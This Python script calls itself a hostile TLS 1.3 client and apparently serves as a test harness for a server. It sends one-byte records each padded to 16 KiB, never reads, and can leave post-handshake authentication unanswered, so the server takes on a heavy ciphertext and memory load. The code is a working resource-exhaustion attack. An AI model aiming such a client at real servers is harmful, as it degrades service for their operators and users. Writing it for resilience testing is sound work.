#!/usr/bin/env python3
"""A hostile TLS 1.3 client: after the handshake it sends one byte of application data per record,
each record padded to a full 16 KiB (or --pad bytes; RFC 8446 section 5.4 allows any amount of zero
padding), and never reads. Every record costs the receiver ~16 KiB of ciphertext for one byte of plaintext.

CPython's ssl module has no padding call, so SSL_set_block_padding (OpenSSL 3.0) is called through
ctypes on the SSL* of the socket's _ssl._SSLSocket object (see keyupdate_flood.py for the layout).

With --pha it offers post-handshake authentication, so the server can send a CertificateRequest,
which it never answers (it never reads). Prints READY after the handshake and SENT:<count> every 256 records, flushed at once; stops after
--records records and then waits (the connection stays open) until killed.
"""
import argparse
import ctypes
import socket
import ssl
import sys
import time

import _ssl


def main():
    p = argparse.ArgumentParser()
    p.add_argument('--port', type=int, required=True)
    p.add_argument('--host', default='127.0.0.1')
    p.add_argument('--records', type=int, default=8192)
    p.add_argument('--pha', action='store_true', help='offer TLS 1.3 post-handshake auth (never answered)')
    p.add_argument('--pad', type=int, default=16384, help='pad each record to a multiple of this many bytes')
    p.add_argument('--size', type=int, default=1, help='bytes of application data per record')
    p.add_argument('--gap-ms', type=int, default=0, help='wait this long after each record')
    args = p.parse_args()
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ctx.maximum_version = ssl.TLSVersion.TLSv1_3
    if args.pha:
        ctx.post_handshake_auth = True
    raw = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    raw.connect((args.host, args.port))
    tls = ctx.wrap_socket(raw, server_hostname='localhost')
    libssl = ctypes.CDLL(_ssl.__file__)
    libssl.SSL_set_block_padding.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
    pointer_size = ctypes.sizeof(ctypes.c_void_p)
    ssl_ptr = ctypes.c_void_p.from_address(id(tls._sslobj) + 3 * pointer_size).value
    if libssl.SSL_set_block_padding(ssl_ptr, args.pad) != 1:
        print('PADDING_FAILED', flush=True)
        return 1
    print('READY', flush=True)
    for sent in range(1, args.records + 1):
        try:
            tls.send(b'x' * args.size)
        except OSError:
            print('CLOSED', flush=True)
            return 0
        if args.gap_ms > 0:
            time.sleep(args.gap_ms / 1000)
        if sent % 256 == 0:
            print(f'SENT:{sent}', flush=True)
    print('DONE', flush=True)
    while True:
        time.sleep(1)


if __name__ == '__main__':
    sys.exit(main())
